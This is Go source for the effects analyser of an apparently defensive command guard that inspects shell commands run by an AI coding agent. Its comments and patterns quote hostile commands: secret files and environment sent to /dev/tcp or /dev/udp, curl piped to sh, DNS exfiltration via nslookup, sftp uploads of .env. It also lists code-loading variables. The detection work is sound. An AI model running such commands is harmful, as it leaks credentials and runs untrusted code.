package effects

import (
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"

	"github.com/hookguard/hookguard/internal/hook"
	"github.com/hookguard/hookguard/internal/text"
	"github.com/hookguard/hookguard/rules/shell"
)

// Env is what the analysis needs to know about where a command runs.
type Env struct {
	// Home is the user's home directory ("" when unknown).
	Home string
	// WorkspaceRoots are the event's workspace roots.
	WorkspaceRoots []string
	// Classify returns the rule pass's classes of a path argument (root,
	// home, home_sub, system, workspace, inside, build, source, outside,
	// temp, dynamic) relative to cwd.
	Classify func(arg, cwd string) []string
	// Placeholder, when not nil, are the classes of what find hands to
	// -exec as {}.
	Placeholder []string
	// HarmlessEnvrcDirs are folders (absolute) whose .envrc an earlier
	// command of the line wrote whole, setting literal variables and
	// calling direnv's helpers only: allowing it runs nothing else.
	HarmlessEnvrcDirs map[string]bool
	// LoopFiles are operands as written ("$f", "${f}", "$(git ls-files)")
	// that stand for the files a listing names (a for loop's or a command
	// substitution's); they are classified as Placeholder.
	LoopFiles map[string]bool
	// FromPipe says stdin comes from another command of the same pipeline
	// whose output is not known (xargs turns it into arguments).
	FromPipe bool
	// PipedData, when not empty, is the secret the command's input carries
	// ("environment", "secret file PATH"; see FromPipe): xargs turns it into
	// arguments, so whatever the command sends off the machine carries it.
	PipedData string
	// VerifiedHooks are hook scripts (absolute paths) an earlier command of
	// the line wrote with content the rule pass allows: changing their mode
	// (chmod +x) is as harmless as that write.
	VerifiedHooks map[string]bool
	// EditorEdit, when set, is what the command line sets in the editor's
	// settings file (jq, a one-liner), every setting harmless: a write of
	// that file with content not known here is that content.
	EditorEdit string
	// IfMissing are files (as written) the command line writes only when
	// they do not exist yet: nothing already there is replaced.
	IfMissing map[string]bool
	// Understood, when set, reports a script file (absolute path) whose
	// whole body the rule pass has read and allows: running it is known.
	Understood func(abs string) bool
	// ScriptVerdict is the rule pass's decision on shell code (nil: not
	// available). A hook script written with known content is decided by
	// what it would run.
	ScriptVerdict func(code string) hook.Decision
	// TextVerdict is the rule pass's decision on text written to the
	// agent's own instruction files (path, content), nil: not available.
	TextVerdict func(path, content string) hook.Decision
	// Examples are files (absolute paths) an earlier command made by
	// copying an example file: they hold no secret, whatever their name.
	Examples map[string]bool
	// ExportLoads says env files read into export are loaded, not shown
	// (nothing on the line can send them elsewhere).
	ExportLoads bool
}

// Analyze computes the effects record of one simple command.
func Analyze(c *shell.Command, env Env) *Record {
	c = vimExSilent(c)
	c = makeFileFromStdin(c)
	c = GitInlineAlias(c)
	r := &Record{Program: c.Name, roots: env.WorkspaceRoots}
	a := analysis{c: c, env: env, r: r}
	a.run()
	r.printsNoLines = searchPrintsNoLines(c)
	r.specialMode = setsSpecialMode(c)
	r.printsHistory = printsHistory(c)
	if img := containerImage(c); img != "" && !trustedImage(img) {
		// docker run xmrig/xmrig, ghcr.io/someone/tool: code from a registry
		// by name, like a package a runner fetches.
		r.Code = append(r.Code, CodeEffect{Kind: "package", What: img})
		r.unknown("runs the container image %s, fetched by name", img)
	}
	if c.Name == "ssh-keygen" && (slices.Contains(c.Args, "-t") || slices.Contains(c.Args, "-y")) && !slices.Contains(c.Args, "-e") &&
		!c.StdinFed && !hasInputRedirect(c) {
		// ssh-keygen -t ed25519 -f ~/.ssh/id_x: a new key is made there (an
		// existing one is not overwritten without a prompt); -y prints only
		// the public half. The key's content is not shown.
		for i := range r.Files {
			if r.Files[i].Op == OpRead {
				r.Files[i].Meta = true
			}
		}
	}
	if env.EditorEdit != "" {
		for i := range r.Files {
			if f := &r.Files[i]; f.Op == OpWrite && !f.contentKnown && EditorConfigFile(f.Path) && !EditorTaskFile(f.Path) {
				f.content, f.contentKnown = env.EditorEdit, true
			}
		}
	}
	if wellKnownExtensions(c) {
		// code --install-extension dbaeumer.vscode-eslint: a marketplace
		// extension of a well-known publisher.
		r.Concerns = slices.DeleteFunc(r.Concerns, func(s string) bool { return s == extensionConcern })
	}
	if c.Name == "dropdb" && r.Mutates != "" && testDatabaseOperands(c) {
		r.Mutates = "" // dropdb --if-exists shop_test: the test suite's own database
	}
	if r.Mutates == "database" && testDatabaseTarget(c) {
		// RAILS_ENV=test bin/rails db:drop db:create, psql -d shop_test -c
		// 'TRUNCATE …': the test suite's own database on this machine.
		r.Mutates = ""
	}
	if len(env.VerifiedHooks) > 0 {
		for i := range r.Files {
			if f := &r.Files[i]; f.Op == OpMode && env.VerifiedHooks[NormalizePath(f.Path, c.Cwd, env.Home)] {
				f.scriptVerdict = hook.Allow
			}
		}
	}
	a.markReplaced()
	a.zipMovesInside()
	for i := range r.Network {
		if n := &r.Network[i]; n.Sends == outputSent {
			// env > /dev/udp/203.0.113.9/53, cat ~/.ssh/id_rsa > /dev/tcp/…:
			// what the command prints is what goes.
			if (c.Name == "env" || c.Name == "printenv") && len(c.Args) == 0 {
				n.Sends = "environment"
			}
			for _, f := range r.Files {
				if f.Op == OpRead && has(f.Classes, ClassSecret) {
					n.Sends = "secret file " + f.Path
				}
			}
		}
	}
	if env.PipedData != "" && (env.FromPipe || c.StdinFed) {
		// env | xargs -I% curl "https://…/?v=%": the input becomes the
		// arguments, so what goes off the machine carries it.
		for i := range r.Network {
			if n := &r.Network[i]; !n.Local && (env.FromPipe && n.Sends == "" || n.Sends == "stdin") && !n.scanned {
				n.Sends = env.PipedData
			}
		}
	}
	return r
}

type analysis struct {
	c   *shell.Command
	env Env
	r   *Record
}

// elevating wrappers run the command as another user.
var elevating = map[string]bool{"sudo": true, "doas": true, "su": true, "pkexec": true, "run0": true, "chroot": true}

// loaderVars are environment variables that make programs load or run other
// code at start-up.
var loaderVars = sync.OnceValue(func() map[string]bool {
	return map[string]bool{
		"LD_PRELOAD": true, "LD_LIBRARY_PATH": true, "LD_AUDIT": true, "BASH_ENV": true, "ENV": true,
		"PROMPT_COMMAND": true, "NODE_OPTIONS": true, "PYTHONSTARTUP": true, "PYTHONPATH": true, "PYTHONHOME": true,
		"PERL5OPT": true, "PERL5LIB": true, "PERLLIB": true, "RUBYOPT": true, "RUBYLIB": true, "GIT_SSH_COMMAND": true, "GIT_SSH": true,
		"GIT_EXEC_PATH": true, "GIT_CONFIG_GLOBAL": true, "GIT_CONFIG_PARAMETERS": true, "GIT_EXTERNAL_DIFF": true, "GIT_PAGER": true,
		"GIT_EDITOR": true, "EDITOR": true, "VISUAL": true, "PAGER": true, "SHELLOPTS": true, "BASHOPTS": true,
		"PS4": true, "JAVA_TOOL_OPTIONS": true, "_JAVA_OPTIONS": true, "JDK_JAVA_OPTIONS": true, "CLASSPATH": true,
		"DOTNET_STARTUP_HOOKS": true, "GCONV_PATH": true, "LD_BIND_NOW": false, "PATH": true, "HISTFILE": false,
		"MAVEN_OPTS": true, "GRADLE_OPTS": true, "npm_config_script_shell": true, "NPM_CONFIG_SCRIPT_SHELL": true,
		"LESSOPEN": true, "LESSCLOSE": true, "MANPAGER": true, "SYSTEMD_PAGER": true, "GIT_ASKPASS": true, "SSH_ASKPASS": true,
		"SUDO_ASKPASS": true, "BROWSER": true, "PERL5DB": true, "PYTHONBREAKPOINT": true, "GIT_PROXY_COMMAND": true,
	}
})

func (a *analysis) run() {
	c, r := a.c, a.r
	for _, w := range c.Wrappers {
		if elevating[w] {
			r.Privileged = true
		}
	}
	for k, v := range c.Assigns {
		if c.Name == "" && k == "ENV" {
			// ENV=${ENV:-dev}; terraform -chdir="envs/$ENV" plan: a script's
			// own variable (sh reads ENV only when it is exported and the
			// shell is interactive).
			continue
		}
		a.envVar(k, v)
	}
	a.redirects()
	if c.ArgFile != "" {
		// xargs -a .env …: the file's lines are the command's arguments.
		a.file(OpRead, c.ArgFile, false)
		if has(a.r.Files[len(a.r.Files)-1].Classes, ClassSecret) {
			a.r.argFile = c.ArgFile
		}
	}
	a.metadataScan()
	if c.DynamicName {
		r.unknown("the program name is built at run time")
		return
	}
	if c.Name == "" {
		r.Known = true // assignments or redirections only
		return
	}
	spec := Lookup(c.Name)
	relative := !strings.HasPrefix(c.Program, "/") && strings.Contains(c.Program, "/") && !c.FoundProgram
	if spec == nil {
		if relative {
			if a.projectBinary(c.Program) {
				// ./target/debug/app, ./build/server: what the project's
				// own build made, run like cargo run or go run would.
				r.Known = true
				r.Code = append(r.Code, CodeEffect{Kind: "project", What: c.Program})
				return
			}
			if a.understood(c.Program) {
				r.Known = true
				r.Code = append(r.Code, CodeEffect{Kind: "project", What: c.Program})
				return
			}
			r.Code = append(r.Code, CodeEffect{Kind: "file", What: c.Program})
			r.unknown("runs a workspace file: %s", c.Program)
		}
		return
	}
	if name := c.Program; relative && spec.Code != "project" && !a.installedCopy(name) {
		// ./name is a file in the workspace, not the system program of that name.
		r.Code = append(r.Code, CodeEffect{Kind: "file", What: name})
		r.unknown("runs a workspace file named like a program: %s", name)
		return
	}
	r.Known = true
	a.walk(spec)
	a.headerTokensToTheirService()
	for _, check := range programChecks()[c.Name] {
		check(a)
	}
	a.embeddedRemoteCode()
	a.truncatesInput()
	a.productionValues()
	a.bulkRecords()
	a.destructiveProjectRun()
	a.unreachedAddresses()
	defer a.writtenScripts()
	if c.Name == "tee" && c.Stdin != "" && !c.DynamicCode {
		// printf '…' | tee FILE, tee FILE <<EOF: what tee writes is known.
		for i := range r.Files {
			if f := &r.Files[i]; f.Op == OpWrite && !f.contentKnown {
				f.content, f.contentKnown = c.Stdin, true
			}
		}
	}
	if c.DynamicCode && !SourcesCompletion(c) {
		r.Code = append(r.Code, CodeEffect{Kind: "stdin", Lang: "shell", Found: []string{"only known at run time"}})
		r.unknown("runs shell code only known at run time")
	}
}

// textPrograms take text that may quote a command without running it:
// printers, searches, editors of text, messages to people.
var textPrograms = map[string]bool{"echo": true, "printf": true, "grep": true, "egrep": true, "fgrep": true, "rg": true, "ag": true,
	"ack": true, "ugrep": true, "git": true, "gh": true, "glab": true, "jq": true, "yq": true, "cat": true, "less": true, "more": true,
	"man": true, "sed": true, "awk": true, "gawk": true, "perl": true, "python": true, "python3": true, "node": true, "ruby": true,
	"tee": true, "wc": true, "sort": true, "tr": true, "cut": true, "logger": true, "say": true, "notify-send": true}

// remotePipeRe finds a download piped into a shell inside a value.
var remotePipeRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b`)
})

// embeddedRemoteCode reads an option or operand that holds a download
// piped into a shell (mvn -Dexec.args="-c 'curl … | sh'", tox --override
// 'testenv.commands=bash -c "curl … | bash"'): the program hands it to a
// shell; one the rules deny denies the command.
func (a *analysis) embeddedRemoteCode() {
	c := a.c
	if a.env.ScriptVerdict == nil || a.r.deniedRun != "" || textPrograms[c.Name] {
		return
	}
	for i, v := range c.Args {
		if len(v) > 4096 || !strings.Contains(v, "|") || i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			continue
		}
		loc := remotePipeRe().FindStringIndex(v)
		if loc == nil {
			continue
		}
		cmd := v[loc[0]:]
		if j := strings.Index(cmd, " #"); j > 0 {
			cmd = cmd[:j] // LESSOPEN-style '… | sh #%s'
		}
		cmd = strings.TrimRight(cmd, `'" `)
		if a.env.ScriptVerdict(cmd) == hook.Deny {
			a.r.deniedRun = cmd + " (inside " + short(v) + ")"
			return
		}
	}
}

// remoteRunCommands reads the shell commands aws ssm send-command runs on
// instances (--parameters commands=…, AWS-RunShellScript): one the rules
// deny denies the call, wherever it runs.
func (a *analysis) remoteRunCommands() {
	c := a.c
	if a.env.ScriptVerdict == nil || a.r.deniedRun != "" || !slices.Contains(c.Args, "send-command") {
		return
	}
	for i, v := range c.Args {
		val := ""
		switch {
		case v == "--parameters" && i+1 < len(c.Args):
			val = c.Args[i+1]
		case strings.HasPrefix(v, "--parameters="):
			val = v[len("--parameters="):]
		default:
			continue
		}
		for _, cmd := range ssmCommandStrings(val) {
			if a.env.ScriptVerdict(cmd) == hook.Deny {
				a.r.deniedRun = cmd + " (sent to the instances)"
				return
			}
		}
	}
}

// ssmCommandStrings returns the commands of a send-command parameters
// value: commands='…', commands=["…","…"], or {"commands":["…"]}.
func ssmCommandStrings(v string) []string {
	var out []string
	for _, m := range ssmQuotedRe().FindAllStringSubmatch(v, 16) {
		out = append(out, strings.ReplaceAll(m[1], `\"`, `"`))
	}
	if len(out) == 0 {
		if _, rest, ok := strings.Cut(v, "commands="); ok {
			out = append(out, strings.Trim(rest, `'"[] `))
		}
	}
	return out
}

var ssmQuotedRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`"((?:[^"\\]|\\.)*\s(?:[^"\\]|\\.)*)"`)
})

// programChecks are readings of one program the table's data does not
// express (which operands are remote, which option makes a port check, what
// inline Ruby deletes), run after the table's walk, by program name.
var programChecks = sync.OnceValue(func() map[string][]func(*analysis) {
	m := map[string][]func(*analysis){
		"go":       {(*analysis).remoteModule},
		"scp":      {(*analysis).scpDownload},
		"aws":      {(*analysis).bucketDownload, (*analysis).remoteRunCommands},
		"gitleaks": {(*analysis).secretsShown},
		"gsutil":   {(*analysis).bucketDownload},
		"mv":       {(*analysis).moveOntoDevice, (*analysis).movesInsideWorkspace},
		"gmv":      {(*analysis).moveOntoDevice, (*analysis).movesInsideWorkspace},
		"git":      {(*analysis).movesInsideWorkspace, (*analysis).pushRefspecs, (*analysis).hidesGuardChanges},
		"rsync":    {(*analysis).rsyncMoves},
		"chmod":    {(*analysis).narrowsModes},
		"unzip":    {(*analysis).extractedMembers},
		"ln":       {(*analysis).symlinkTargets},
		"tar":      {(*analysis).tarCreates},
		"gtar":     {(*analysis).tarCreates},
		"bsdtar":   {(*analysis).tarCreates},
		"grep":     {(*analysis).countsOnly},
		"egrep":    {(*analysis).countsOnly},
		"fgrep":    {(*analysis).countsOnly},
		"zgrep":    {(*analysis).countsOnly},
		"rg":       {(*analysis).countsOnly},
		"ag":       {(*analysis).countsOnly},
		"ack":      {(*analysis).countsOnly},
		"ugrep":    {(*analysis).countsOnly},
	}
	for _, n := range []string{"nc", "ncat", "netcat"} {
		m[n] = append(m[n], (*analysis).portCheck, (*analysis).loopbackSocket)
	}
	for _, n := range []string{"http", "https", "xh", "xhs", "httpie"} {
		m[n] = append(m[n], (*analysis).loopbackRequest)
	}
	m["ssh"] = append(m["ssh"], (*analysis).forgeAuthCheck)
	for _, n := range []string{"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "getent", "resolvectl", "kdig"} {
		m[n] = append(m[n], (*analysis).substitutedHostName)
	}
	m["sftp"] = append(m["sftp"], (*analysis).sftpBatch)
	for _, n := range []string{"pg_dump", "pg_dumpall", "mysqldump", "mongodump", "mongoexport"} {
		m[n] = append(m[n], (*analysis).dataDump)
	}
	for n := range commandOptions {
		m[n] = append(m[n], (*analysis).optionCommands)
	}
	for _, n := range []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "xh", "httpie", "aria2c"} {
		m[n] = append(m[n], (*analysis).metadataArgs)
	}
	m["direnv"] = append(m["direnv"], (*analysis).allowsWrittenEnvrc)
	m["npm"] = append(m["npm"], (*analysis).packageFieldsOnly)
	for _, n := range []string{"crontab", "at", "batch", "launchctl", "systemd-run", "systemctl", "defaults", "PlistBuddy"} {
		m[n] = append(m[n], (*analysis).scheduledCode)
	}
	for _, n := range []string{"gdb", "cgdb", "gdb-multiarch", "lldb"} {
		m[n] = append(m[n], (*analysis).debugsProjectBinary)
	}
	for _, n := range []string{"ed", "red", "ex"} {
		m[n] = append(m[n], (*analysis).editorShellLines)
	}
	for _, n := range []string{"docker", "podman", "nerdctl"} {
		m[n] = append(m[n], (*analysis).everyContainer)
	}
	for _, n := range []string{"make", "gmake", "just", "task", "mage", "npm", "pnpm", "yarn", "bun", "tox", "nox"} {
		m[n] = append(m[n], (*analysis).deployTargets)
	}
	return m
})

func (a *analysis) envVar(k, v string) {
	if registryVars[strings.ToUpper(k)] {
		a.registry(k, v)
		return
	}
	switch strings.ToUpper(k) {
	case "HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY":
		// HTTPS_PROXY=http://198.51.100.77:8080 bundle install: every
		// request, its credentials too, through that machine.
		if host := hostOf(v); host != "" && !strings.HasPrefix(v, "$") {
			if local, _ := classifyHost(host); !local {
				a.r.Concerns = append(a.r.Concerns, "routes the command's web traffic, its credentials too, through the proxy "+host)
			}
		}
		return
	}
	if harmlessEnvValue(k, v) {
		return
	}
	if a.env.ScriptVerdict != nil && a.r.deniedRun == "" && len(v) < 4096 && strings.ContainsAny(v, "|;&") {
		// LESSOPEN='| curl … | sh #%s', CARGO_…_RUNNER='sh -c "curl … | sh"':
		// a variable whose value a program hands to a shell.
		cmd := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(v), "|"))
		if a.env.ScriptVerdict(cmd) == hook.Deny {
			a.r.deniedRun = cmd + " (the value of " + k + ")"
		}
	}
	if loaderVars()[k] || strings.HasPrefix(k, "DYLD_") || strings.HasPrefix(k, "BASH_FUNC_") || namesAProgram(k) {
		a.r.Env = append(a.r.Env, k)
	}
}

// registryVars name the registry or index a package manager installs from.
var registryVars = map[string]bool{"NPM_CONFIG_REGISTRY": true, "YARN_REGISTRY": true, "YARN_NPM_REGISTRY_SERVER": true,
	"PIP_INDEX_URL": true, "PIP_EXTRA_INDEX_URL": true, "UV_INDEX_URL": true, "UV_EXTRA_INDEX_URL": true, "UV_DEFAULT_INDEX": true,
	"UV_INDEX": true, "POETRY_REPOSITORIES_PYPI_URL": true, "GOPROXY": true, "COMPOSER_REPO_PACKAGIST": true, "PUB_HOSTED_URL": true,
	"NUGET_SOURCE": true}

// officialRegistries are the public registries' hosts.
var officialRegistries = []string{"registry.npmjs.org", "registry.yarnpkg.com", "npm.pkg.github.com", "pypi.org",
	"files.pythonhosted.org", "proxy.golang.org", "sum.golang.org", "rubygems.org", "crates.io", "index.crates.io",
	"repo.packagist.org", "packagist.org", "pub.dev", "api.nuget.org", "repo1.maven.org", "registry.npmmirror.com"}

// registry records a package manager pointed at another registry: one
// named like an official registry on someone else's domain
// (registry.npmjs.org.8k1ppigd.xyz) is a danger, any other host a concern.
func (a *analysis) registry(k, v string) {
	for _, u := range strings.FieldsFunc(v, func(r rune) bool { return r == ',' || r == '|' || r == ' ' }) {
		if u == "direct" || u == "off" || strings.HasPrefix(u, "$") {
			continue
		}
		host := strings.ToLower(hostOf(u))
		if host == "" {
			continue
		}
		if local, _ := classifyHost(host); local {
			continue // a mirror on this machine or the private network
		}
		official := false
		for _, o := range officialRegistries {
			switch {
			case host == o || strings.HasSuffix(host, "."+o):
				official = true
			case strings.Contains(host, o):
				a.r.lookalike = k + " points the package manager at " + host + ", a host named like " + o
				return
			}
		}
		if !official {
			a.r.Concerns = append(a.r.Concerns, k+" installs packages from "+host+", not the public registry")
		}
	}
}

// namesAProgram reports a variable whose name says its value is a program
// a tool runs (CARGO_TARGET_X_RUNNER, RUSTC_WRAPPER, SVN_EDITOR, …).
func namesAProgram(k string) bool {
	for _, suffix := range []string{"_RUNNER", "_WRAPPER", "_EDITOR", "_PAGER", "_ASKPASS", "_SHELL", "_COMMAND", "_CMD", "_EXEC", "_LAUNCHER", "_INTERPRETER"} {
		if strings.HasSuffix(k, suffix) && k != suffix[1:] {
			return true
		}
	}
	return false
}

// harmlessEnvValue reports a value of a command-naming variable that runs
// nothing of note: an editor or pager from the harmless list, or plain ssh
// with options that choose a key, port, user or config
// (GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes').
func harmlessEnvValue(k, v string) bool {
	if strings.ContainsAny(v, ";|&$`()<>\n") {
		return false
	}
	if strings.HasSuffix(k, "_WRAPPER") {
		// RUSTC_WRAPPER=sccache: compiler caches.
		switch path.Base(strings.TrimSpace(v)) {
		case "sccache", "ccache":
			return true
		}
	}
	switch k {
	case "NODE_OPTIONS":
		// --max-old-space-size=4096, --enable-source-maps: engine
		// settings that load no code (--require, --import, --loader do).
		for _, w := range strings.Fields(v) {
			name, _, _ := strings.Cut(w, "=")
			switch name {
			case "--max-old-space-size", "--max-semi-space-size", "--enable-source-maps", "--no-warnings", "--trace-warnings",
				"--no-deprecation", "--trace-deprecation", "--unhandled-rejections", "--stack-trace-limit", "--openssl-legacy-provider",
				"--dns-result-order", "--no-experimental-fetch", "--experimental-vm-modules", "--max-http-header-size", "--use-openssl-ca":
			default:
				return false
			}
		}
		return v != ""
	case "GIT_EDITOR", "EDITOR", "VISUAL", "PAGER", "GIT_PAGER":
		return harmlessGitCommands[strings.TrimSpace(v)]
	case "GIT_SSH_COMMAND":
		words := strings.Fields(v)
		if len(words) == 0 || path.Base(words[0]) != "ssh" {
			return false
		}
		for i := 1; i < len(words); i++ {
			w := words[i]
			switch {
			case w == "-i" || w == "-p" || w == "-l" || w == "-F" || w == "-o":
				if i+1 >= len(words) {
					return false
				}
				if w == "-o" && !safeSSHOption(words[i+1]) {
					return false
				}
				i++
			case strings.HasPrefix(w, "-o") && len(w) > 2:
				if !safeSSHOption(w[2:]) {
					return false
				}
			case w == "-v" || w == "-q" || w == "-T" || w == "-4" || w == "-6" || w == "-C" || w == "-vv" || w == "-vvv":
			default:
				return false
			}
		}
		return true
	}
	return false
}

// safeSSHOption reports an ssh -o setting that runs no local command.
func safeSSHOption(kv string) bool {
	key, _, _ := strings.Cut(kv, "=")
	switch strings.ToLower(key) {
	case "proxycommand", "localcommand", "permitlocalcommand", "knownhostscommand", "match", "include", "remotecommand":
		return false
	}
	return true
}

// understood reports a script whose body the rule pass has read and allows.
func (a *analysis) understood(p string) bool {
	if a.env.Understood == nil || strings.ContainsAny(p, "$`*?[") {
		return false
	}
	abs, _ := a.absolute(p)
	return a.env.Understood(abs)
}

// writesNothing reports a command whose output is empty (:, true, cat
// /dev/null, echo -n, printf ”), or a redirection with no command at all.
func (a *analysis) writesNothing() bool {
	c := a.c
	if c.DynamicName || len(c.Assigns) > 0 && c.Name == "" {
		return false
	}
	args := c.Args
	switch c.Name {
	case "", ":", "true", "false":
		return true
	case "cat":
		return len(args) == 1 && args[0] == "/dev/null" || len(args) == 0 && stdinIsNull(c)
	case "echo":
		return len(args) == 1 && args[0] == "-n" || len(args) == 2 && args[0] == "-n" && args[1] == ""
	case "printf":
		return len(args) == 1 && args[0] == ""
	}
	return false
}

// defaultedPathRe matches a path that is a variable with a literal default
// (${CONF:-/etc/app.conf}/x): the default and what follows.
var defaultedPathRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^\$\{\w+:?[-=]((?:\$HOME|\$\{HOME\})?[^}$\x60]*)\}([^$\x60]*)$`)
})

// outputSent is what a command sends through a /dev/tcp redirection: its
// output.
const outputSent = "the command's output"

// descriptorSent is what a connection opened with exec N>/dev/tcp/… sends:
// whatever later commands write to the descriptor.
const descriptorSent = "what later commands write to the descriptor"

// stdinIsNull reports a command whose input is redirected from /dev/null
// (cat < /dev/null writes nothing).
func stdinIsNull(c *shell.Command) bool {
	for _, rd := range c.Redirects {
		if rd.Op == "<" && rd.Target == "/dev/null" {
			return true
		}
	}
	return false
}

// devNetPath splits bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT
// pseudo-paths into the protocol and HOST:PORT.
func devNetPath(p string) (proto, hostPort string, ok bool) {
	for _, proto := range []string{"tcp", "udp"} {
		if rest, found := strings.CutPrefix(p, "/dev/"+proto+"/"); found {
			host, port, _ := strings.Cut(rest, "/")
			return proto, host + ":" + port, host != ""
		}
	}
	return "", "", false
}

// remoteModule records go run MODULE@VERSION: code fetched from the
// network and run, not the workspace's own.
func (a *analysis) remoteModule() {
	c := a.c
	if len(c.Args) < 2 || c.Args[0] != "run" {
		return
	}
	for _, arg := range c.Args[1:] {
		if arg == "--" {
			return
		}
		mod, _, versioned := strings.Cut(arg, "@")
		if !versioned || strings.HasPrefix(arg, "-") || strings.HasPrefix(arg, ".") || strings.HasPrefix(arg, "/") {
			continue
		}
		if first, _, _ := strings.Cut(mod, "/"); strings.Contains(first, ".") {
			if strings.HasPrefix(mod, "golang.org/x/") {
				// go run golang.org/x/tools/cmd/stringer@v0.24.0: the Go
				// project's own tools, fetched through the module proxy and
				// checked against the checksum database.
				a.r.Code = append(a.r.Code, CodeEffect{Kind: "project", Lang: "go", What: arg})
				return
			}
			a.r.Code = append(a.r.Code, CodeEffect{Kind: "package", Lang: "go", What: arg})
			a.r.unknown("runs a Go module fetched from the network: %s", arg)
			return
		}
	}
}

// localLiteralSend reports nc options that only set timeouts, UDP or the
// address family, and a loopback host: the connection carries its stdin
// and nothing runs.
func (a *analysis) localLiteralSend() bool {
	c := a.c
	var operands []string
	for i := 0; i < len(c.Args); i++ {
		v := c.Args[i]
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return false
		}
		switch {
		case v == "-w" || v == "-q" || v == "-i":
			i++
		case (strings.HasPrefix(v, "-w") || strings.HasPrefix(v, "-q") || strings.HasPrefix(v, "-i")) && text.Digits(v[2:]):
		case strings.HasPrefix(v, "-") && len(v) > 1 && strings.Trim(v[1:], "vnuNC46") == "":
		case strings.HasPrefix(v, "-"):
			return false // -e, -c, -l, --exec, --sh-exec, …
		default:
			operands = append(operands, v)
		}
	}
	return len(operands) == 2 && LoopbackHost("tcp://"+operands[0]) && text.Digits(operands[1])
}

// portCheck reads nc -z (connect and close, sending nothing): a port
// check, not a connection that could carry data or a shell.
func (a *analysis) portCheck() {
	c := a.c
	if (c.Name == "nc" || c.Name == "ncat" || c.Name == "netcat") && c.StdinFed && c.Stdin != "" && !hasInputRedirect(c) &&
		!strings.ContainsAny(c.Stdin, "$`") && len(c.Stdin) < 4096 && a.localLiteralSend() {
		// printf 'PING\r\n' | nc -q1 localhost 6379: literal text to a
		// server on this machine (a health check, a statsd counter).
		a.r.Mutates = ""
		return
	}
	if c.StdinFed || hasInputRedirect(c) {
		return
	}
	scan := false
	for i := 0; i < len(c.Args); i++ {
		v := c.Args[i]
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return
		}
		if !strings.HasPrefix(v, "-") {
			continue
		}
		switch {
		case v == "-w" || v == "-G":
			i++ // a timeout
		case strings.HasPrefix(v, "-w") && text.Digits(v[2:]):
		case len(v) > 1 && strings.Trim(v[1:], "zvnu46") == "":
			scan = scan || strings.Contains(v, "z")
		default:
			return // -e, -c, -l, … or anything else: not a mere port check
		}
	}
	if scan {
		a.r.Mutates = ""
	}
}

// allowsWrittenEnvrc: direnv allow of the .envrc this line just wrote with
// harmless content (echo 'layout python3' > .envrc && direnv allow).
func (a *analysis) allowsWrittenEnvrc() {
	c := a.c
	if a.r.Mutates != "persistence" || len(c.Args) == 0 || len(a.env.HarmlessEnvrcDirs) == 0 {
		return
	}
	switch c.Args[0] {
	case "allow", "permit", "grant":
	default:
		return
	}
	dir := c.Cwd
	if len(c.Args) > 1 {
		if c.DynamicArgs[1] {
			return
		}
		dir = strings.TrimSuffix(c.Args[1], "/.envrc")
	}
	abs, _ := a.absolute(dir)
	if abs != "" && a.env.HarmlessEnvrcDirs[path.Clean(abs)] {
		a.r.Mutates = ""
	}
}

// hidesGuardChanges: git update-index --skip-worktree (or
// --assume-unchanged) on the guard's, the agent's or CI's files hides later
// changes to them from git status and diffs.
func (a *analysis) hidesGuardChanges() {
	c := a.c
	if len(c.Args) == 0 || c.Args[0] != "update-index" ||
		!slices.Contains(c.Args, "--skip-worktree") && !slices.Contains(c.Args, "--assume-unchanged") {
		return
	}
	for _, f := range a.r.Files {
		if has(f.Classes, ClassGuard, ClassAgent, ClassCI) {
			a.r.Concerns = append(a.r.Concerns, "hides later changes to "+f.Path+" from git status and diffs")
			return
		}
	}
}

// loopbackRequest: a request with a changing method to this machine's own
// server (http POST :8000/api/items name=x) changes the dev server's state,
// not a remote one.
func (a *analysis) loopbackRequest() {
	if a.r.Mutates != "remote" || len(a.r.Network) == 0 {
		return
	}
	for _, n := range a.r.Network {
		if n.Dest != "" && !LoopbackHost(n.Dest) {
			return // "": the request's own items, sent where it goes
		}
	}
	for i := range a.r.Network {
		a.r.Network[i].Local = true
	}
	a.r.Mutates = ""
}

// forgeAuthCheck: ssh -T git@github.com (no remote command) only checks that
// the key authenticates with a code host, which answers with a greeting.
func (a *analysis) forgeAuthCheck() {
	c := a.c
	var ops []string
	for i, v := range c.Args {
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return
		}
		switch {
		case v == "-T" || v == "-v" || v == "-vv" || v == "-vvv" || v == "-q" || v == "-4" || v == "-6":
		case strings.HasPrefix(v, "-"):
			return // -i, -o, -p, -L, -R, … : not a plain check
		default:
			ops = append(ops, v)
		}
	}
	if len(ops) != 1 || c.CodeSplit {
		return
	}
	switch strings.ToLower(ops[0]) {
	case "git@github.com", "git@gitlab.com", "git@bitbucket.org", "git@ssh.dev.azure.com", "git@codeberg.org", "git@git.sr.ht":
		a.r.Mutates = ""
	}
}

// substitutedHostName: a name lookup of a host name built from a command's
// output (nslookup $(whoami).x.oastify.com): the lookup carries the output
// to whoever serves the domain.
func (a *analysis) substitutedHostName() {
	for i, arg := range a.c.Args {
		if i >= len(a.c.DynamicArgs) || !a.c.DynamicArgs[i] || strings.HasPrefix(arg, "-") {
			continue
		}
		if (strings.Contains(arg, "$(") || strings.Contains(arg, "`")) && strings.Contains(arg, ".") {
			a.r.hostCarries = arg
			return
		}
	}
}

// sftpBatch reads the put commands of an sftp batch given on stdin
// (printf 'put .env\nbye\n' | sftp -b - host): each file put is sent to the
// host.
func (a *analysis) sftpBatch() {
	c := a.c
	i := slices.Index(c.Args, "-b")
	if i < 0 || i+1 >= len(c.Args) || c.Args[i+1] != "-" || c.Stdin == "" {
		return
	}
	host := "" // the destination: sftp's last word
	if last := c.Args[len(c.Args)-1]; !strings.HasPrefix(last, "-") {
		host = last
	}
